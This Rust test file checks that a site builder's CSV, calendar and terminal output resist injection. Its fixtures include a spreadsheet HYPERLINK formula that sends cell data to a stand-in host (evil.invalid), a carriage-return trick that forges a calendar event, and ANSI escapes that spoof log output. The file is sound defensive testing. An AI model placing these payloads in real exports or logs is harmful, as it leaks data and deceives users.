//! Exports safe to open: no formula in the CSV, no bare CR in the calendar, no control
//! character in any published file, and none raw in the terminal.

use crate::harness::fixture;

const PLAN: &str = r#"---
title: "Plan\x0c med\0 styretegn"
summary: "Resumé\x1b[2J"
parties: [kommune]
sections:
  - title: Afsnit
    items:
      - title: "Punkt\rBEGIN:VEVENT"
        responsible: [kommune]
        deadline: 2025-03-01
        answer: "=HYPERLINK(\"https://evil.invalid/?\"&A1;\"Klik\")"
      - title: "@SUM(A1)"
        answer: "-2+3"
---
Tekst med \x1b skjult.
"#;

#[test]
fn exports_are_safe_to_open() {
    let site = fixture("check", "ok");
    site.write("content/handleplaner/plan.md", PLAN);
    let run = site.run(&["build", "--today", "2025-01-01", "--base-url", "https://intra.kommune.dk/aftaler"]);
    assert_eq!(run.code, 0, "{}", run.stderr);

    let csv = site.page("handleplaner/plan.csv");
    assert!(csv.contains("\"'=HYPERLINK("), "formula neutralised: {csv}");
    assert!(csv.contains("'@SUM(A1)") && csv.contains("'-2+3"), "{csv}");

    let ics = site.page("frister.ics");
    assert!(ics.contains("Punkt\\nBEGIN:VEVENT"), "CR escaped inside SUMMARY: {ics}");
    assert_eq!(ics.split("\r\n").filter(|l| *l == "BEGIN:VEVENT").count(), 1, "one deadline, no forged event: {ics}");
    assert!(!ics.replace("\r\n", "").contains('\r'), "no bare CR");

    for entry in walkdir::WalkDir::new(site.path("public")).into_iter().map(Result::unwrap) {
        let ext = entry.path().extension().and_then(|e| e.to_str()).unwrap_or("");
        if !["html", "xml", "ics", "json", "js", "csv"].contains(&ext) {
            continue;
        }
        let bytes = std::fs::read(entry.path()).unwrap();
        let bad = bytes.iter().find(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r')) || b == 0x7f);
        assert!(bad.is_none(), "{}: control byte {bad:?}", entry.path().display());
    }
    assert!(site.page("handleplaner/plan.html").contains("Plan med styretegn"));
    assert!(site.page("feed.xml").starts_with("<?xml"));
}

#[test]
fn diagnostics_show_control_characters_visibly() {
    let site = fixture("check", "ok");
    site.write("content/aftaler/aftale.md", "---\ntitle: Aftale\nparties: [\"x\\e[1A\\r0 error(s)\"]\n---\n");
    let run = site.run(&["check"]);
    assert_eq!(run.code, 1);
    assert!(!run.stderr.contains(['\x1b', '\r']), "raw escape in: {:?}", run.stderr);
    assert!(run.stderr.contains("x\\u{1b}[1A\\u{d}0 error(s)"), "{}", run.stderr);
}
